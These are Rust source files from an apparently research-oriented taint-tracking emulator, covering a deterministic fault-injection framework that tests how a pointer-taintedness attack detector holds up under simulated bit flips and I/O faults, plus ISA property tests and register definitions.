    fn proof_cache_is_inert_at_the_state_level() {
        let mut cpu = cpu();
        let mut inj = hook(FaultKind::ProofCache, 0, 3);
        inj.on_step(0, &mut cpu);
        assert!(inj.applied().is_none(), "fires at boot, not at a step");
    }

    #[test]
    fn io_kinds_are_inert_in_the_state_injector() {
        let mut cpu = cpu();
        let mut inj = hook(FaultKind::Eintr, 0, 1);
        inj.on_step(0, &mut cpu);
        assert!(inj.applied().is_none());
        assert_eq!(cpu.stats().injected_faults, 0);
    }
}
