//! The fault taxonomy: what a campaign can break, and where.

use ptaint_os::{IoFault, IoFaultPlan};
use ptaint_trace::ToJson;

/// Every fault class a campaign can inject.
///
/// The first four are *I/O-level* degradations applied on the kernel→user
/// boundary (scheduled by taint-delivering call index); the rest are
/// *state-level* single-event upsets applied by a [`crate::StateInjector`]
/// at a step trigger.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FaultKind {
    /// Truncated delivery on `read`/`recv` (socket remainder is dropped).
    ShortRead,
    /// Interrupted call: `-EINTR`, nothing consumed.
    Eintr,
    /// Connection reset: pending session input dropped, call returns `-1`.
    ConnReset,
    /// Lossless stream fragmentation: remainder requeued for the next call.
    Fragment,
    /// Flip one *data* bit of a tainted byte in memory (taint preserved) —
    /// models corruption of attacker-reachable data.
    DataBit,
    /// Clear the shadow taint bits of a window around a tainted byte —
    /// taint *loss*, the missed-detection direction.
    TaintClear,
    /// Spuriously taint clean state (a register or a stack word) — taint
    /// *gain*, the false-alert direction.
    TaintSet,
    /// Flip one bit of a register: a value bit, or one of the four shadow
    /// taint bits.
    RegisterBit,
    /// Flip one data-or-taint bit of a valid L1/L2 cache line, breaking
    /// cache/memory coherence until the line is evicted or overwritten.
    CacheLine,
    /// Burst upset: flip 2–8 data bits of tainted bytes inside one 64-byte
    /// window (taint preserved) — models a multi-bit DRAM fault in
    /// attacker-reachable data.
    MultiBit,
    /// Clear *every* shadow taint bit in the machine — memory ranges and
    /// registers alike. The taint-loss direction at maximum scale: the
    /// detector is blinded wholesale, not around one byte.
    TaintSweep,
    /// Flip one bit of a filled decode-cache slot's pre-extended immediate
    /// — corrupts the *detector's* predecoded view of the program, not the
    /// program itself.
    DecodeSlot,
    /// Flip one bit of a cached page's primary ProvenClean bitmap — attacks
    /// the check-elision machinery directly (a flipped bit can falsely
    /// "prove" a site, or revoke a real proof).
    ProvenFlip,
    /// Flip one bit of the on-disk `ptaint-proofs v1` cache entry before
    /// boot — corrupts the persistent proof store the warm path trusts.
    /// Inert when the machine has no proof cache configured.
    ProofCache,
}

impl FaultKind {
    /// Every kind, in a fixed order (campaign sampling indexes into this).
    pub const ALL: [FaultKind; 14] = [
        FaultKind::ShortRead,
        FaultKind::Eintr,
        FaultKind::ConnReset,
        FaultKind::Fragment,
        FaultKind::DataBit,
        FaultKind::TaintClear,
        FaultKind::TaintSet,
        FaultKind::RegisterBit,
        FaultKind::CacheLine,
        FaultKind::MultiBit,
        FaultKind::TaintSweep,
        FaultKind::DecodeSlot,
        FaultKind::ProvenFlip,
        FaultKind::ProofCache,
    ];

    /// Machine-readable kind name (CLI `--faults` tokens, report keys).
    #[must_use]
    pub const fn name(self) -> &'static str {
        match self {
            FaultKind::ShortRead => "short_read",
            FaultKind::Eintr => "eintr",
            FaultKind::ConnReset => "conn_reset",
            FaultKind::Fragment => "fragment",
            FaultKind::DataBit => "data_bit",
            FaultKind::TaintClear => "taint_clear",
            FaultKind::TaintSet => "taint_set",
            FaultKind::RegisterBit => "register_bit",
            FaultKind::CacheLine => "cache_line",
            FaultKind::MultiBit => "multi_bit",
            FaultKind::TaintSweep => "taint_sweep",
            FaultKind::DecodeSlot => "decode_slot",
            FaultKind::ProvenFlip => "proven_flip",
            FaultKind::ProofCache => "proof_cache",
        }
    }

    /// Parses a `--faults` token (the inverse of [`FaultKind::name`]).
    #[must_use]
    pub fn parse(token: &str) -> Option<FaultKind> {
        FaultKind::ALL.into_iter().find(|k| k.name() == token)
    }

    /// Whether this kind degrades the I/O boundary (vs. corrupting state).
    #[must_use]
    pub const fn is_io(self) -> bool {
        matches!(
            self,
            FaultKind::ShortRead | FaultKind::Eintr | FaultKind::ConnReset | FaultKind::Fragment
        )
    }

    /// Whether this kind attacks the *detection machinery* (shadow taint,
    /// decode cache, static proofs) rather than the guest's own state or
    /// I/O. Crash-class outcomes under these kinds classify as
    /// [`crate::OutcomeClass::DetectorFault`] ("detector corrupted")
    /// instead of [`crate::OutcomeClass::GuestFault`] ("guest corrupted").
    #[must_use]
    pub const fn targets_detector(self) -> bool {
        matches!(
            self,
            FaultKind::TaintClear
                | FaultKind::TaintSet
                | FaultKind::TaintSweep
                | FaultKind::DecodeSlot
                | FaultKind::ProvenFlip
                | FaultKind::ProofCache
        )
    }
}

/// One concrete scheduled fault: a kind plus its trigger coordinates and a
/// salt that seeds the kind-specific placement choices.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Fault {
    /// What to inject.
    pub kind: FaultKind,
    /// For I/O kinds: the 0-based taint-delivering call index to degrade.
    pub io_call: u64,
    /// For state kinds: the first step at which the injector may fire.
    pub step: u64,
    /// Seeds the placement (which byte, which bit, which register, …).
    pub salt: u64,
}

impl Fault {
    /// The kernel-side schedule this fault implies — empty for state kinds.
    #[must_use]
    pub fn io_plan(&self) -> IoFaultPlan {
        let keep = (self.salt % 4) as u32;
        let fault = match self.kind {
            FaultKind::ShortRead => IoFault::ShortRead { keep },
            FaultKind::Eintr => IoFault::Eintr,
            FaultKind::ConnReset => IoFault::Reset,
            // keep >= 1 so a fragmented stream always makes progress.
            FaultKind::Fragment => IoFault::Fragment { keep: keep.max(1) },
            _ => return IoFaultPlan::new(),
        };
        IoFaultPlan::new().on_call(self.io_call, fault)
    }
}

impl ToJson for Fault {
    fn to_json(&self) -> String {
        format!(
            "{{\"kind\":\"{}\",\"io_call\":{},\"step\":{},\"salt\":{}}}",
            self.kind.name(),
            self.io_call,
            self.step,
            self.salt
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_round_trip_through_parse() {
        for kind in FaultKind::ALL {
            assert_eq!(FaultKind::parse(kind.name()), Some(kind));
        }
        assert_eq!(FaultKind::parse("cosmic_ray"), None);
    }

    #[test]
    fn io_plan_only_for_io_kinds() {
        let f = Fault {
            kind: FaultKind::ShortRead,
            io_call: 2,
            step: 0,
            salt: 7,
        };
        assert_eq!(f.io_plan().at(2), Some(IoFault::ShortRead { keep: 3 }));
        let s = Fault {
            kind: FaultKind::TaintClear,
            io_call: 2,
            step: 100,
            salt: 7,
        };
        assert!(s.io_plan().is_empty());
    }

    #[test]
    fn fragment_always_keeps_at_least_one_byte() {
        let f = Fault {
            kind: FaultKind::Fragment,
            io_call: 0,
            step: 0,
            salt: 4, // salt % 4 == 0
        };
        assert_eq!(f.io_plan().at(0), Some(IoFault::Fragment { keep: 1 }));
    }

    #[test]
    fn detector_targeting_kinds_are_the_meta_level_ones() {
        let meta: Vec<FaultKind> = FaultKind::ALL
            .into_iter()
            .filter(|k| k.targets_detector())
            .collect();
        assert_eq!(
            meta,
            [
                FaultKind::TaintClear,
                FaultKind::TaintSet,
                FaultKind::TaintSweep,
                FaultKind::DecodeSlot,
                FaultKind::ProvenFlip,
                FaultKind::ProofCache,
            ]
        );
        // No kind is both an I/O degradation and a detector attack.
        assert!(!FaultKind::ALL
            .into_iter()
            .any(|k| k.is_io() && k.targets_detector()));
    }

    #[test]
    fn fault_json_is_flat_and_stable() {
        let f = Fault {
            kind: FaultKind::RegisterBit,
            io_call: 1,
            step: 42,
            salt: 9,
        };
        assert_eq!(
            f.to_json(),
            "{\"kind\":\"register_bit\",\"io_call\":1,\"step\":42,\"salt\":9}"
        );
    }
}
