//! The campaign runner: N seeded trials, outcome classification, and a
//! byte-identical JSON report.
//!
//! The runner is generic over *how* a trial executes — it only decides what
//! fault each trial carries and how the resulting [`ExitReason`] is
//! classified against the fault-free baseline. `ptaint::Machine` supplies
//! the closure that actually boots a guest and runs it.

use ptaint_os::{ExitReason, RunOutcome};
use ptaint_trace::ToJson;

use crate::fault::{Fault, FaultKind};
use crate::rng::SplitMix64;

/// The dependability classification of one trial, judged against the
/// fault-free baseline of the same workload.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum OutcomeClass {
    /// Baseline detected the attack and the faulted run still did.
    Detected,
    /// Baseline detected the attack but the faulted run exited cleanly —
    /// the injection defeated the detector (e.g. a taint-loss flip).
    Missed,
    /// The faulted run raised an alert the baseline did not — a spurious
    /// detection (e.g. a taint-gain flip).
    FalseAlert,
    /// Clean workload stayed clean: the fault was absorbed.
    Benign,
    /// The faulted run crashed (guest memory/decode fault, break trap, or a
    /// hardening-caught host panic).
    GuestFault,
    /// The faulted run crashed under a fault that targeted the *detection
    /// machinery* (shadow taint, decode cache, static proofs) rather than
    /// the guest — "detector corrupted", as opposed to "guest corrupted".
    DetectorFault,
    /// The faulted run hung: step budget or wall-clock watchdog expired.
    Watchdog,
}

impl OutcomeClass {
    /// All classes, in report order.
    pub const ALL: [OutcomeClass; 7] = [
        OutcomeClass::Detected,
        OutcomeClass::Missed,
        OutcomeClass::FalseAlert,
        OutcomeClass::Benign,
        OutcomeClass::GuestFault,
        OutcomeClass::DetectorFault,
        OutcomeClass::Watchdog,
    ];

    /// Machine-readable class name (report keys).
    #[must_use]
    pub const fn name(self) -> &'static str {
        match self {
            OutcomeClass::Detected => "detected",
            OutcomeClass::Missed => "missed",
            OutcomeClass::FalseAlert => "false_alert",
            OutcomeClass::Benign => "benign",
            OutcomeClass::GuestFault => "guest_fault",
            OutcomeClass::DetectorFault => "detector_fault",
            OutcomeClass::Watchdog => "watchdog",
        }
    }
}

/// Classifies a faulted run's exit against the baseline's verdict.
///
/// The deliberate asymmetry: when the baseline detects the attack, a clean
/// exit under injection is **never** reported as benign — it is a missed
/// detection, the severity the campaign exists to measure.
#[must_use]
pub fn classify(reason: &ExitReason, baseline_detected: bool) -> OutcomeClass {
    match reason {
        ExitReason::Security(_) => {
            if baseline_detected {
                OutcomeClass::Detected
            } else {
                OutcomeClass::FalseAlert
            }
        }
        ExitReason::Exited(_) => {
            if baseline_detected {
                OutcomeClass::Missed
            } else {
                OutcomeClass::Benign
            }
        }
        ExitReason::StepLimit | ExitReason::Watchdog => OutcomeClass::Watchdog,
        ExitReason::MemFault(_)
        | ExitReason::DecodeFault(_)
        | ExitReason::BreakTrap(_)
        | ExitReason::GuestFault(_)
        | ExitReason::ReplayDivergence(_) => OutcomeClass::GuestFault,
    }
}

/// [`classify`], widened by the fault vocabulary: a crash under a fault
/// kind that [`FaultKind::targets_detector`] is a *detector* corruption
/// ([`OutcomeClass::DetectorFault`]), not a guest one. Detection verdicts
/// (detected / missed / false-alert / benign) are unaffected — those
/// measure the detector's answer, not who crashed.
#[must_use]
pub fn classify_fault(
    reason: &ExitReason,
    baseline_detected: bool,
    kind: FaultKind,
) -> OutcomeClass {
    let class = classify(reason, baseline_detected);
    if class == OutcomeClass::GuestFault && kind.targets_detector() {
        OutcomeClass::DetectorFault
    } else {
        class
    }
}

/// What a campaign sweeps: the seed, the trial count, and the admissible
/// fault kinds.
#[derive(Debug, Clone)]
pub struct CampaignSpec {
    /// Master seed; every trial's fault derives deterministically from it.
    pub seed: u64,
    /// Number of faulted trials (the baseline run is extra).
    pub trials: u64,
    /// Fault kinds to sample from, uniformly.
    pub kinds: Vec<FaultKind>,
}

impl CampaignSpec {
    /// A spec over every fault kind.
    #[must_use]
    pub fn new(seed: u64, trials: u64) -> CampaignSpec {
        CampaignSpec {
            seed,
            trials,
            kinds: FaultKind::ALL.to_vec(),
        }
    }

    /// Restricts the sampled kinds (builder). Empty input is ignored.
    #[must_use]
    pub fn kinds(mut self, kinds: Vec<FaultKind>) -> CampaignSpec {
        if !kinds.is_empty() {
            self.kinds = kinds;
        }
        self
    }

    /// The fault for trial `trial`, placed using the baseline run's shape:
    /// `step_hint` (instructions executed) bounds step triggers, `io_hint`
    /// (taint-delivering calls) bounds I/O call targeting.
    #[must_use]
    pub fn fault_for_trial(&self, trial: u64, step_hint: u64, io_hint: u64) -> Fault {
        // Decorrelate per-trial streams with the golden-ratio stride also
        // used inside SplitMix64, so trial N+1 isn't one step of trial N.
        let stream = self.seed ^ (trial + 1).wrapping_mul(0x9e37_79b9_7f4a_7c15);
        let mut rng = SplitMix64::new(stream);
        let kind = self.kinds[rng.below(self.kinds.len() as u64) as usize];
        Fault {
            kind,
            io_call: rng.below(io_hint.max(1)),
            step: rng.below(step_hint.max(1)),
            salt: rng.next_u64(),
        }
    }
}

/// One trial's result, as handed back by the execution closure.
#[derive(Debug)]
pub struct TrialRun {
    /// The run's full outcome.
    pub outcome: RunOutcome,
    /// Taint-delivering I/O calls the kernel serviced during the run.
    pub io_calls: u64,
    /// State-injector detail, when a state fault actually landed.
    pub applied: Option<String>,
}

/// One classified trial in the report.
#[derive(Debug)]
pub struct TrialRecord {
    /// 0-based trial index.
    pub trial: u64,
    /// The scheduled fault.
    pub fault: Fault,
    /// Why the run stopped.
    pub reason: ExitReason,
    /// The classification against the baseline.
    pub class: OutcomeClass,
    /// Whether the fault demonstrably landed (I/O faults always land if the
    /// targeted call happens; state faults may find no eligible target).
    pub applied: Option<String>,
}

/// The campaign's aggregate result. `ToJson` output is byte-identical for
/// identical (spec, workload) pairs: it contains no wall-clock values and
/// no per-run statistics that a watchdog could truncate nondeterministically.
#[derive(Debug)]
pub struct CampaignReport {
    /// The sweep parameters.
    pub seed: u64,
    /// Faulted trial count.
    pub trials: u64,
    /// Kinds that were admissible.
    pub kinds: Vec<FaultKind>,
    /// Did the fault-free baseline detect an attack?
    pub baseline_detected: bool,
    /// The baseline's exit reason.
    pub baseline_reason: ExitReason,
    /// Taint-delivering calls the baseline serviced (the `io_call` bound).
    pub baseline_io_calls: u64,
    /// Every classified trial, in trial order.
    pub records: Vec<TrialRecord>,
}

impl CampaignReport {
    /// Trials classified as `class`.
    #[must_use]
    pub fn count(&self, class: OutcomeClass) -> u64 {
        self.records.iter().filter(|r| r.class == class).count() as u64
    }
}

impl ToJson for CampaignReport {
    fn to_json(&self) -> String {
        let kinds = self
            .kinds
            .iter()
            .map(|k| format!("\"{}\"", k.name()))
            .collect::<Vec<_>>()
            .join(",");
        let counts = OutcomeClass::ALL
            .iter()
            .map(|&c| format!("\"{}\":{}", c.name(), self.count(c)))
            .collect::<Vec<_>>()
            .join(",");
        let records = self
            .records
            .iter()
            .map(|r| {
                let applied = match &r.applied {
                    Some(detail) => ptaint_trace::json::escape(detail),
                    None => "null".to_string(),
                };
                format!(
                    "{{\"trial\":{},\"fault\":{},\"reason\":{},\"class\":\"{}\",\"applied\":{}}}",
                    r.trial,
                    r.fault.to_json(),
                    r.reason.to_json(),
                    r.class.name(),
                    applied
                )
            })
            .collect::<Vec<_>>()
            .join(",");
        format!(
            "{{\"seed\":{},\"trials\":{},\"kinds\":[{}],\
             \"baseline\":{{\"detected\":{},\"reason\":{},\"io_calls\":{}}},\
             \"counts\":{{{}}},\"records\":[{}]}}",
            self.seed,
            self.trials,
            kinds,
            self.baseline_detected,
            self.baseline_reason.to_json(),
            self.baseline_io_calls,
            counts,
            records
        )
    }
}

/// Sweeps `spec.trials` faulted runs of one workload.
///
/// `run_trial` executes the workload — fault-free when given `None` (the
/// baseline, run first), or under the given fault. The baseline's shape
/// (instructions executed, I/O calls serviced) bounds where later faults
/// are placed, so campaigns adapt to the workload without configuration.
pub fn run_campaign<F>(spec: &CampaignSpec, mut run_trial: F) -> CampaignReport
where
    F: FnMut(Option<&Fault>) -> TrialRun,
{
    let baseline = run_trial(None);
    let baseline_detected = baseline.outcome.reason.is_detected();
    let step_hint = baseline.outcome.stats.instructions;
    let io_hint = baseline.io_calls;

    let mut records = Vec::with_capacity(spec.trials as usize);
    for trial in 0..spec.trials {
        let fault = spec.fault_for_trial(trial, step_hint, io_hint);
        let run = run_trial(Some(&fault));
        let class = classify_fault(&run.outcome.reason, baseline_detected, fault.kind);
        records.push(TrialRecord {
            trial,
            fault,
            reason: run.outcome.reason,
            class,
            applied: run.applied,
        });
    }

    CampaignReport {
        seed: spec.seed,
        trials: spec.trials,
        kinds: spec.kinds.clone(),
        baseline_detected,
        baseline_reason: baseline.outcome.reason,
        baseline_io_calls: baseline.io_calls,
        records,
    }
}

/// [`run_campaign`], sharded across `jobs` worker threads with a
/// deterministic merge.
///
/// The baseline runs first on the calling thread (its shape bounds fault
/// placement, exactly as in the sequential runner). Workers then *steal*
/// trial indices from a shared atomic counter — each trial's fault derives
/// from the spec and the trial index alone, so any worker can run any
/// trial — and the classified records are reassembled **in trial order**.
/// The report is therefore byte-identical for every `jobs` value,
/// including `jobs == 1` (which delegates to [`run_campaign`] outright);
/// the CI `cmp` gate pins `-j1` vs `-j4`, the same contract as the
/// analyzer's parallel fixpoint driver.
///
/// `make_runner` is called once per worker, **on that worker's thread** —
/// the runner itself need not be `Send` (a `Machine` snapshot boots a
/// thread-local CPU).
pub fn run_campaign_jobs<R, F>(spec: &CampaignSpec, jobs: usize, make_runner: F) -> CampaignReport
where
    R: FnMut(Option<&Fault>) -> TrialRun,
    F: Fn() -> R + Sync,
{
    let n = jobs.clamp(1, usize::try_from(spec.trials).unwrap_or(usize::MAX).max(1));
    if n == 1 {
        return run_campaign(spec, make_runner());
    }
    let baseline = {
        let mut run_trial = make_runner();
        run_trial(None)
    };
    let baseline_detected = baseline.outcome.reason.is_detected();
    let step_hint = baseline.outcome.stats.instructions;
    let io_hint = baseline.io_calls;

    let next = std::sync::atomic::AtomicU64::new(0);
    let mut slots: Vec<Option<TrialRecord>> = (0..spec.trials).map(|_| None).collect();
    std::thread::scope(|s| {
        let handles: Vec<_> = (0..n)
            .map(|_| {
                let next = &next;
                let make_runner = &make_runner;
                s.spawn(move || {
                    let mut run_trial = make_runner();
                    let mut out = Vec::new();
                    loop {
                        let trial = next.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
                        if trial >= spec.trials {
                            break;
                        }
                        let fault = spec.fault_for_trial(trial, step_hint, io_hint);
                        let run = run_trial(Some(&fault));
                        let class =
                            classify_fault(&run.outcome.reason, baseline_detected, fault.kind);
                        out.push(TrialRecord {
                            trial,
                            fault,
                            reason: run.outcome.reason,
                            class,
                            applied: run.applied,
                        });
                    }
                    out
                })
            })
            .collect();
        for h in handles {
            for rec in h.join().expect("campaign worker panicked") {
                let i = usize::try_from(rec.trial).expect("trial index fits usize");
                slots[i] = Some(rec);
            }
        }
    });
    let records = slots
        .into_iter()
        .map(|r| r.expect("every trial slot is filled"))
        .collect();

    CampaignReport {
        seed: spec.seed,
        trials: spec.trials,
        kinds: spec.kinds.clone(),
        baseline_detected,
        baseline_reason: baseline.outcome.reason,
        baseline_io_calls: baseline.io_calls,
        records,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ptaint_cpu::ExecStats;

    fn outcome(reason: ExitReason) -> RunOutcome {
        RunOutcome {
            reason,
            stats: ExecStats::default(),
            stdout: Vec::new(),
            stderr: Vec::new(),
            transcripts: Vec::new(),
            tainted_input_bytes: 0,
        }
    }

    #[test]
    fn classification_matrix() {
        use OutcomeClass::*;
        let exited = ExitReason::Exited(0);
        assert_eq!(classify(&exited, true), Missed);
        assert_eq!(classify(&exited, false), Benign);
        assert_eq!(classify(&ExitReason::StepLimit, true), Watchdog);
        assert_eq!(classify(&ExitReason::Watchdog, false), Watchdog);
        assert_eq!(
            classify(&ExitReason::GuestFault("x".into()), true),
            GuestFault
        );
        assert_eq!(classify(&ExitReason::DecodeFault(0), false), GuestFault);
    }

    #[test]
    fn detector_targeting_crashes_widen_to_detector_fault() {
        use OutcomeClass::*;
        let crash = ExitReason::MemFault(ptaint_mem::MemFault {
            kind: ptaint_mem::MemFaultKind::Unaligned,
            addr: 1,
        });
        // Guest-level fault kinds keep the old class...
        assert_eq!(classify_fault(&crash, true, FaultKind::DataBit), GuestFault);
        // ...detector-level kinds widen it.
        assert_eq!(
            classify_fault(&crash, true, FaultKind::ProvenFlip),
            DetectorFault
        );
        assert_eq!(
            classify_fault(&crash, false, FaultKind::DecodeSlot),
            DetectorFault
        );
        // Detection verdicts are untouched by the widening.
        let exited = ExitReason::Exited(0);
        assert_eq!(classify_fault(&exited, true, FaultKind::TaintSweep), Missed);
        assert_eq!(
            classify_fault(
                &ExitReason::Security(sample_alert()),
                false,
                FaultKind::TaintSet
            ),
            FalseAlert
        );
        assert_eq!(
            classify_fault(&ExitReason::Watchdog, true, FaultKind::ProofCache),
            Watchdog
        );
    }

    #[test]
    fn sharded_runner_merges_in_trial_order_and_matches_sequential() {
        // A deterministic synthetic runner: the outcome is a pure function
        // of the fault, so sequential and sharded sweeps must agree byte
        // for byte — the tentpole's determinism contract in miniature.
        let spec = CampaignSpec::new(0xfeed_beef, 23);
        let runner = || {
            |fault: Option<&Fault>| {
                let reason = match fault {
                    None => ExitReason::Security(sample_alert()),
                    Some(f) if f.salt % 3 == 0 => ExitReason::Exited(0),
                    Some(f) if f.salt % 3 == 1 => ExitReason::Security(sample_alert()),
                    Some(_) => ExitReason::StepLimit,
                };
                TrialRun {
                    outcome: outcome(reason),
                    io_calls: 2,
                    applied: fault.map(|f| format!("salt {}", f.salt)),
                }
            }
        };
        let sequential = run_campaign(&spec, runner());
        let json = sequential.to_json();
        for jobs in [1, 2, 4, 7, 64] {
            let sharded = run_campaign_jobs(&spec, jobs, runner);
            assert_eq!(sharded.to_json(), json, "jobs={jobs}");
        }
        // Records really are in trial order.
        for (i, rec) in sequential.records.iter().enumerate() {
            assert_eq!(rec.trial, i as u64);
        }
    }

    #[test]
    fn fault_schedule_is_deterministic_and_bounded() {
        let spec = CampaignSpec::new(0xabc, 16);
        for trial in 0..16 {
            let a = spec.fault_for_trial(trial, 1000, 4);
            let b = spec.fault_for_trial(trial, 1000, 4);
            assert_eq!(a, b);
            assert!(a.step < 1000);
            assert!(a.io_call < 4);
        }
        // Zero hints must not divide by zero.
        let f = spec.fault_for_trial(0, 0, 0);
        assert_eq!(f.step, 0);
        assert_eq!(f.io_call, 0);
    }

    #[test]
    fn kinds_builder_filters_sampling() {
        let spec = CampaignSpec::new(1, 32).kinds(vec![FaultKind::TaintClear]);
        for trial in 0..32 {
            assert_eq!(
                spec.fault_for_trial(trial, 100, 1).kind,
                FaultKind::TaintClear
            );
        }
        // Empty restriction is ignored, not a panic.
        let spec = CampaignSpec::new(1, 1).kinds(Vec::new());
        assert_eq!(spec.kinds.len(), FaultKind::ALL.len());
    }

    #[test]
    fn report_json_counts_and_classes() {
        let spec = CampaignSpec::new(7, 2).kinds(vec![FaultKind::TaintClear]);
        let mut calls = 0u32;
        let report = run_campaign(&spec, |fault| {
            calls += 1;
            let reason = match fault {
                None => ExitReason::Security(sample_alert()),
                Some(_) => ExitReason::Exited(0),
            };
            TrialRun {
                outcome: outcome(reason),
                io_calls: 3,
                applied: fault.map(|_| "taint cleared".to_string()),
            }
        });
        assert_eq!(calls, 3); // baseline + 2 trials
        assert!(report.baseline_detected);
        assert_eq!(report.count(OutcomeClass::Missed), 2);
        let json = report.to_json();
        assert!(json.contains("\"missed\":2"));
        assert!(json.contains("\"baseline\":{\"detected\":true"));
        assert!(json.contains("\"applied\":\"taint cleared\""));
        // Byte-identical on re-run.
        let again = run_campaign(&spec, |fault| TrialRun {
            outcome: outcome(match fault {
                None => ExitReason::Security(sample_alert()),
                Some(_) => ExitReason::Exited(0),
            }),
            io_calls: 3,
            applied: fault.map(|_| "taint cleared".to_string()),
        });
        assert_eq!(json, again.to_json());
    }

    fn sample_alert() -> ptaint_cpu::SecurityAlert {
        ptaint_cpu::SecurityAlert {
            pc: 0x40_0000,
            instr: ptaint_isa::Instr::Syscall,
            kind: ptaint_cpu::AlertKind::DataPointer,
            pointer_reg: ptaint_isa::Reg::T0,
            pointer: 0xdead_beef,
            taint: ptaint_mem::WordTaint::ALL,
        }
    }
}
