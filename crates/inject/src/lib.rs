#![warn(missing_docs)]

//! # ptaint-inject — deterministic fault-injection campaigns
//!
//! The paper evaluates the pointer-taintedness detector against *attacks*;
//! this crate evaluates it against *faults* — the dependability side of the
//! same DSN tradition. A campaign sweeps seeded injections across the whole
//! stack and classifies what each one does to the detection verdict:
//!
//! * **I/O-level** ([`FaultKind::is_io`]): short reads, `EINTR`, connection
//!   resets, and stream fragmentation on the taint-delivering syscalls —
//!   scheduled on the kernel via [`Fault::io_plan`] and applied by
//!   `ptaint-os` at the kernel→user boundary.
//! * **State-level**: seeded bit flips in tainted data bytes, shadow taint
//!   bits (taint *loss* → missed detections, taint *gain* → false alerts),
//!   multi-bit bursts, the register file, and L1/L2 cache lines — applied
//!   by a [`StateInjector`] hooked into the execution driver.
//! * **Meta-level** ([`FaultKind::targets_detector`]): faults aimed at the
//!   detection machinery itself — whole-machine taint sweeps, decode-cache
//!   slot corruption, ProvenClean-bitmap flips, and on-disk proof-cache
//!   corruption. Crashes under these classify as
//!   [`OutcomeClass::DetectorFault`] ("detector corrupted"), distinct from
//!   [`OutcomeClass::GuestFault`] ("guest corrupted").
//!
//! Everything derives from one `u64` seed through [`SplitMix64`], so a
//! campaign report is byte-identical across runs: `ptaint-run inject
//! --seed S` is a reproducible experiment, not an anecdote. The sharded
//! runner ([`run_campaign_jobs`]) extends the same contract across worker
//! threads: trials are embarrassingly parallel (each fault derives from
//! the spec and the trial index alone), workers steal trial indices from a
//! shared counter, and records merge in trial order — so `-j1` and `-jN`
//! produce byte-identical reports.
//!
//! The crate is workload-agnostic: [`run_campaign`] takes a closure that
//! executes one trial ([`run_campaign_jobs`] takes a *factory* of such
//! closures, one per worker), and `ptaint::Machine` binds the closure to a
//! real guest boot. Classification ([`classify`], [`classify_fault`]) is
//! judged against the fault-free baseline — in particular, a clean exit of
//! a workload whose baseline *detects* an attack is always reported as a
//! **missed** detection, never silently benign.

mod campaign;
mod fault;
mod injector;
mod rng;

pub use campaign::{
    classify, classify_fault, run_campaign, run_campaign_jobs, CampaignReport, CampaignSpec,
    OutcomeClass, TrialRecord, TrialRun,
};
pub use fault::{Fault, FaultKind};
pub use injector::StateInjector;
pub use rng::SplitMix64;
