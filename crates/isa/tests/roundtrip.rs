//! Property tests: every decodable word re-encodes to itself, and every
//! constructible instruction survives an encode/decode round trip.

use proptest::prelude::*;
use ptaint_isa::{Instr, Reg};

proptest! {
    /// decode(word) == Ok(i)  =>  encode(i) == canonical form that decodes back to i.
    #[test]
    fn decode_then_encode_is_stable(word in any::<u32>()) {
        if let Ok(insn) = Instr::decode(word) {
            let reencoded = insn.encode();
            let redecoded = Instr::decode(reencoded).expect("re-encoded word must decode");
            prop_assert_eq!(redecoded, insn);
        }
    }

    /// Arbitrary R-ALU instruction round trips exactly.
    #[test]
    fn ralu_roundtrip(rd in 0u8..32, rs in 0u8..32, rt in 0u8..32, op_idx in 0usize..10) {
        let op = ptaint_isa::RAluOp::ALL[op_idx];
        let insn = Instr::RAlu { op, rd: Reg::new(rd), rs: Reg::new(rs), rt: Reg::new(rt) };
        prop_assert_eq!(Instr::decode(insn.encode()).unwrap(), insn);
    }

    /// Arbitrary loads round trip exactly, including negative offsets.
    #[test]
    fn load_roundtrip(rt in 0u8..32, base in 0u8..32, offset in any::<i16>(),
                      width_idx in 0usize..3, signed in any::<bool>()) {
        let width = [ptaint_isa::MemWidth::Byte, ptaint_isa::MemWidth::Half, ptaint_isa::MemWidth::Word][width_idx];
        // Word loads are canonically signed.
        let signed = if matches!(width, ptaint_isa::MemWidth::Word) { true } else { signed };
        let insn = Instr::Load { width, signed, rt: Reg::new(rt), base: Reg::new(base), offset };
        prop_assert_eq!(Instr::decode(insn.encode()).unwrap(), insn);
    }

    /// Display output is always parseable back by register syntax (smoke).
    #[test]
    fn display_never_panics(word in any::<u32>()) {
        if let Ok(insn) = Instr::decode(word) {
            let _ = insn.to_string();
        }
    }
}
