//! General-purpose register names and ABI conventions.

use std::fmt;

/// One of the 32 general-purpose registers.
///
/// Register `$0` ([`Reg::ZERO`]) is hardwired to zero: writes to it are
/// discarded and its taintedness bits are always clear. The remaining
/// registers follow the classic MIPS o32 ABI role assignment, which the
/// mini-C compiler in `ptaint-cc` and the guest runtime adhere to.
///
/// ```
/// use ptaint_isa::Reg;
/// assert_eq!(Reg::SP.number(), 29);
/// assert_eq!(Reg::new(31), Reg::RA);
/// assert_eq!(Reg::RA.abi_name(), "ra");
/// assert_eq!(Reg::RA.to_string(), "$31");
/// ```
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct Reg(u8);

impl Reg {
    /// Hardwired zero.
    pub const ZERO: Reg = Reg(0);
    /// Assembler temporary.
    pub const AT: Reg = Reg(1);
    /// First function result register.
    pub const V0: Reg = Reg(2);
    /// Second function result register.
    pub const V1: Reg = Reg(3);
    /// First argument register (syscall argument 0).
    pub const A0: Reg = Reg(4);
    /// Second argument register (syscall argument 1).
    pub const A1: Reg = Reg(5);
    /// Third argument register (syscall argument 2).
    pub const A2: Reg = Reg(6);
    /// Fourth argument register (syscall argument 3).
    pub const A3: Reg = Reg(7);
    /// Caller-saved temporary 0.
    pub const T0: Reg = Reg(8);
    /// Caller-saved temporary 1.
    pub const T1: Reg = Reg(9);
    /// Caller-saved temporary 2.
    pub const T2: Reg = Reg(10);
    /// Caller-saved temporary 3.
    pub const T3: Reg = Reg(11);
    /// Caller-saved temporary 4.
    pub const T4: Reg = Reg(12);
    /// Caller-saved temporary 5.
    pub const T5: Reg = Reg(13);
    /// Caller-saved temporary 6.
    pub const T6: Reg = Reg(14);
    /// Caller-saved temporary 7.
    pub const T7: Reg = Reg(15);
    /// Callee-saved register 0.
    pub const S0: Reg = Reg(16);
